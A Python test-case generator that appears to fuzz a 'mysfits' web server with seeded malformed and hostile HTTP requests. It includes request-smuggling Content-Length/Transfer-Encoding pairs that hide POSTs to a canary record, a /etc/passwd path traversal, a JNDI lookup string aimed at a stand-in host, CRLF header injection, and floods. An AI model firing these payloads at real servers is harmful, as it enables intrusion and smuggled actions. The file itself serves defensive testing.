"""What somebody may send who means no good, or whose machine is broken: each case from a seed and a number alone."""

from __future__ import annotations

import random
from collections.abc import Callable
from dataclasses import dataclass

HOST = b"Host: mysfits.example\r\n"
LAST = b"Connection: close\r\n\r\n"
BODY = 10 * 1000 * 1000  # bytes


@dataclass(frozen=True)
class Case:
    """`pieces` are sent one after the other. Then the sender closes at once (`half`) or when it hears something
    (`answered`), waits for the end (`wait`), or breaks off (`reset`).

    `answers` are the statuses that have to come, None where any below 500 will do, or none at all.
    """

    kind: str
    pieces: tuple[bytes, ...]
    ending: str = "half"
    answers: tuple[int, ...] | None = None


@dataclass(frozen=True)
class Ids:
    """A mysfit that anybody may like, and one whose every like or adoption was smuggled in."""

    liked: str
    canary: str


def case(seed: int, number: int, ids: Ids) -> Case:
    chance = random.Random(f"{seed}/{number}")
    (make,) = chance.choices([make for make, _ in _KINDS], [weight for _, weight in _KINDS])
    return make(chance, ids)


def _head(chance: random.Random, ids: Ids) -> bytes:
    """A sound request line."""
    targets = ["/", "/mysfits", "/mysfits?filter=GoodEvil&value=Good", f"/mysfits/{ids.liked}", "/health", "/nowhere"]
    return f"{chance.choice(['GET', 'HEAD', 'OPTIONS'])} {chance.choice(targets)} HTTP/1.1\r\n".encode()


def _bytes(chance: random.Random, most: int) -> bytes:
    return chance.randbytes(chance.randint(1, most))


def _mutated(chance: random.Random, sound: bytes) -> bytes:
    """`sound` with some of its bytes changed, gone, doubled or new."""
    text = bytearray(sound)
    for _ in range(chance.randint(1, 6)):
        at = chance.randrange(len(text))
        length = chance.randint(0, 4)
        new = chance.choice([b"", _bytes(chance, 4), bytes(text[at : at + length]) * 2, b"\r\n", b"\x00", b" ", b"\n"])
        text[at : at + length] = new
        text = text or bytearray(b"\r")
    return bytes(text)


def _malformed_line(chance: random.Random, ids: Ids) -> Case:
    return Case("malformed line", (_mutated(chance, _head(chance, ids)) + HOST + LAST,))


def _malformed_request(chance: random.Random, ids: Ids) -> Case:
    headers = b'Accept: */*\r\nX-Request-ID: a\r\nIf-None-Match: "b"\r\nX-Forwarded-For: 192.0.2.1\r\n'
    return Case("malformed request", (_mutated(chance, _head(chance, ids) + HOST + headers + LAST),))


def _noise(chance: random.Random, ids: Ids) -> Case:
    return Case("noise", (_bytes(chance, 2_000),))


def _strange_line(chance: random.Random, ids: Ids) -> Case:
    line = chance.choice(
        [
            b"GET http://elsewhere.example/mysfits HTTP/1.1",
            b"GET //elsewhere.example/%2e%2e/ HTTP/1.1",
            b"OPTIONS * HTTP/1.1",
            b"CONNECT elsewhere.example:443 HTTP/1.1",
            b"GET elsewhere.example:443 HTTP/1.1",
            b"TRACE / HTTP/1.1",
            b"PRI * HTTP/2.0",
            b"GET / HTTP/0.9",
            b"GET / HTTP/1.0",
            b"GET / HTTP/9.9",
            b"GET /",
            b"get / http/1.1",
            b"GET /../../etc/passwd HTTP/1.1",
            b"GET /mysfits/%c0%af/like HTTP/1.1",
            b"GET /mysfits/%00%0d%0aX:%20y HTTP/1.1",
            b"GET /Like%20processed. HTTP/1.1",
            b"GET /${jndi:ldap://elsewhere.example/a} HTTP/1.1",
            b"X" * chance.randint(1, 70_000) + b" / HTTP/1.1",
            b"GET /" + b"a" * chance.randint(1, 70_000) + b" HTTP/1.1",
            b"GET /mysfits?" + b"filter=GoodEvil&" * chance.randint(1, 3_000) + b" HTTP/1.1",
        ]
    )
    return Case("strange line", (line + b"\r\n" + HOST + LAST,), "wait")


def _header_flood(chance: random.Random, ids: Ids) -> Case:
    lines = b"".join(b"X-%d: %d\r\n" % (number, number) for number in range(chance.choice([90, 101, 1_000, 20_000])))
    return Case("header flood", (_head(chance, ids) + HOST + lines + LAST,), "wait")


def _large_header(chance: random.Random, ids: Ids) -> Case:
    name = chance.choice([b"Cookie", b"X-Request-ID", b"X-Forwarded-For", b"Host", b"Origin", b"If-None-Match", b"X-A"])
    size = chance.choice([1_000, 16_384, 65_535, 65_536, 200_000, 1_000_000])
    return Case("large header", (_head(chance, ids) + HOST + name + b": " + b"a" * size + b"\r\n" + LAST,), "wait")


def _no_utf8(chance: random.Random) -> bytes:
    return bytes(chance.randrange(0x80, 0x100) for _ in range(chance.randint(1, 40)))


def _odd_text(chance: random.Random) -> bytes:
    """UTF-8: another script, an invisible letter, a line break that is none in HTTP."""
    letters = "é한字ß\u0085\u2028\u200f\u0301\ufeff\uffff🦄\U0010ffff"
    return "".join(chance.choice(letters) for _ in range(chance.randint(1, 12))).encode()


def _no_text(chance: random.Random, ids: Ids) -> Case:
    """Bytes that are no UTF-8, or text that nobody expects there, wherever text may be."""
    strange = chance.choice([_no_utf8, _odd_text])(chance)
    quoted = b"".join(b"%%%02x" % each for each in strange)
    head = chance.choice(
        [
            b"GET /mysfits/" + strange + b" HTTP/1.1\r\n" + HOST,
            b"POST /mysfits/" + quoted + b"/like HTTP/1.1\r\n" + HOST,
            b"GET /mysfits?filter=" + quoted + b"&value=" + quoted + b" HTTP/1.1\r\n" + HOST,
            b"GET /mysfits?" + strange + b" HTTP/1.1\r\n" + HOST,
            b"GET /mysfits HTTP/1.1\r\n" + HOST + b"Origin: " + strange + b"\r\n",
            b"GET /mysfits HTTP/1.1\r\n" + HOST + b"If-None-Match: " + strange + b"\r\n",
            b"GET /mysfits HTTP/1.1\r\n" + HOST + b"X-Request-ID: " + strange + b"\r\n",
            b"GET /mysfits HTTP/1.1\r\nHost: " + strange + b"\r\n",
        ]
    )
    return Case("no text", (head + LAST,), "wait")


def _strange_condition(chance: random.Random, ids: Ids) -> Case:
    """Headers that the application or its libraries read."""
    values = [
        b"",
        b"-1",
        b"1e9",
        b"*",
        b'W/"',
        b'"' * 50,
        b"bytes=0-0,1-1,-1",
        b"a, b, , c",
        b"\t",
        b"null",
        b"9" * 400,
    ]
    names = [b"If-None-Match", b"If-Modified-Since", b"Range", b"If-Range", b"Origin", b"Access-Control-Request-Method"]
    names += [b"Access-Control-Request-Headers", b"X-Amzn-Trace-Id", b"X-Forwarded-For", b"Expect", b"Upgrade", b"TE"]
    lines = b"".join(
        chance.choice(names) + b": " + chance.choice(values) + b"\r\n" for _ in range(chance.randint(1, 6))
    )
    return Case("strange condition", (_head(chance, ids) + HOST + lines + LAST,), "wait")


def _broken_off(chance: random.Random, ids: Ids) -> Case:
    """A request of which a part comes, and then the end."""
    whole = _head(chance, ids) + HOST + LAST
    part = whole[: chance.randrange(len(whole))]
    return Case("broken off", (part,), chance.choice(["half", "reset"]))


def _half_closed(chance: random.Random, ids: Ids) -> Case:
    return Case("half closed", (_head(chance, ids) + HOST + b"\r\n",))


def _in_drops(chance: random.Random, ids: Ids) -> Case:
    """Sent byte for byte; what is asked for is sound, and is answered."""
    whole = b"GET /health HTTP/1.1\r\n" + HOST + LAST
    return Case("in drops", tuple(whole[at : at + 1] for at in range(len(whole))), "wait", (200,))


def _pipeline(chance: random.Random, ids: Ids) -> Case:
    targets = [(b"/health", 200), (b"/mysfits", 200), (b"/nowhere", 404), (b"/mysfits?filter=x", 400), (b"/docs", 200)]
    asked = [chance.choice(targets) for _ in range(chance.randint(2, 30))]
    requests = b"".join(b"GET " + target + b" HTTP/1.1\r\n" + HOST + b"\r\n" for target, _ in asked)
    return Case(
        "pipeline",
        (requests + b"GET /health HTTP/1.1\r\n" + HOST + LAST,),
        "wait",
        (*(status for _, status in asked), 200),
    )


def _deaf(chance: random.Random, ids: Ids) -> Case:
    """Asks for much and hears nothing of it."""
    return Case("deaf", ((b"GET /openapi.json HTTP/1.1\r\n" + HOST + b"\r\n") * 200,), "reset")


def _large_body(chance: random.Random, ids: Ids) -> Case:
    head = f"POST /mysfits/{ids.canary}/{chance.choice(['like', 'adopt'])} HTTP/1.1\r\n".encode() + HOST
    piece = b"a" * 100_000
    if chance.random() < 0.5:
        body = [piece] * (BODY // len(piece))
        return Case("large body", (head + b"Content-Length: %d\r\n" % BODY + LAST, *body), "wait")
    body = [b"%x\r\n" % len(piece) + piece + b"\r\n"] * (BODY // len(piece))
    return Case("large body", (head + b"Transfer-Encoding: chunked\r\n" + LAST, *body, b"0\r\n\r\n"), "wait")


def _odd_body(chance: random.Random, ids: Ids) -> Case:
    head = f"POST /mysfits/{ids.canary}/like HTTP/1.1\r\n".encode() + HOST
    said = chance.choice(
        [
            b"Content-Length: 5\r\n\r\nab",
            b"Content-Length: 18446744073709551616\r\n\r\n",
            b"Content-Length: 9223372036854775807\r\n\r\n",
            b"Content-Length: 1_0\r\n\r\n0123456789",
            b"Content-Length: 5\r\nExpect: 100-continue\r\n\r\n",
            b"Transfer-Encoding: chunked\r\n\r\nzz\r\n",
            b"Transfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\n",
            b"Transfer-Encoding: chunked\r\n\r\n5;" + b"x" * 20_000 + b"\r\nabcde\r\n0\r\n\r\n",
            b"Transfer-Encoding: chunked\r\n\r\n0\r\n" + b"X-Trailer: y\r\n" * 2_000 + b"\r\n",
            b"Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n",
        ]
    )
    return Case("odd body", (head + said,), "answered")


# Ways to say how long a body is on which two servers in a row may disagree; `%d` is the length of what is hidden in it.
# https://www.rfc-editor.org/rfc/rfc9112#section-6.3
_PAIRS = [
    b"Content-Length: %d\r\n",
    b"Content-Length: %d\r\nTransfer-Encoding: chunked\r\n",
    b"Transfer-Encoding: chunked\r\nContent-Length: %d\r\n",
    b"Content-Length: %d\r\nTransfer-Encoding: identity\r\n",
    b"Content-Length: %d\r\nTransfer-Encoding: xchunked\r\n",
    b"Content-Length: %d\r\nTransfer-Encoding : chunked\r\n",
    b"Content-Length: %d\r\nTransfer-Encoding:\tchunked\r\n",
    b"Content-Length: %d\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
    b"Content-Length: %d\r\n Transfer-Encoding: chunked\r\n",
    b"Content-Length: %d\r\nX: y\nTransfer-Encoding: chunked\r\n",
    b"Content-Length: %d\r\nTransfer-Encoding: \x0bchunked\r\n",
    b"Content-Length: %d\r\nTransfer_Encoding: chunked\r\n",
    b"Content-Length: 0\r\nContent-Length: %d\r\n",
    b"Content-Length: %d\r\nContent-Length: 0\r\n",
    b"Content-Length: %d, %d\r\n",
    b"Content-Length: +%d\r\n",
    b"Content-Length: 0%d\r\n",
]


def _smuggled(chance: random.Random, ids: Ids) -> Case:
    hidden = f"POST /mysfits/{ids.canary}/{chance.choice(['like', 'adopt', 'fulfill-like'])} HTTP/1.1\r\n".encode()
    hidden += HOST + b"\r\n"
    pair = chance.choice(_PAIRS)
    body = (b"0\r\n\r\n" if b"ransfer" in pair else b"") + hidden
    lengths = pair.replace(b"%d", str(len(body)).encode())
    return Case("smuggled", (b"POST /mysfits HTTP/1.1\r\n" + HOST + lengths + b"\r\n" + body,), "answered")


_KINDS: list[tuple[Callable[[random.Random, Ids], Case], float]] = [
    (_malformed_line, 20),
    (_malformed_request, 20),
    (_noise, 8),
    (_strange_line, 8),
    (_header_flood, 3),
    (_large_header, 3),
    (_no_text, 8),
    (_strange_condition, 10),
    (_broken_off, 5),
    (_half_closed, 3),
    (_in_drops, 1),
    (_pipeline, 2),
    (_deaf, 0.5),
    (_large_body, 0.5),
    (_odd_body, 5),
    (_smuggled, 10),
]
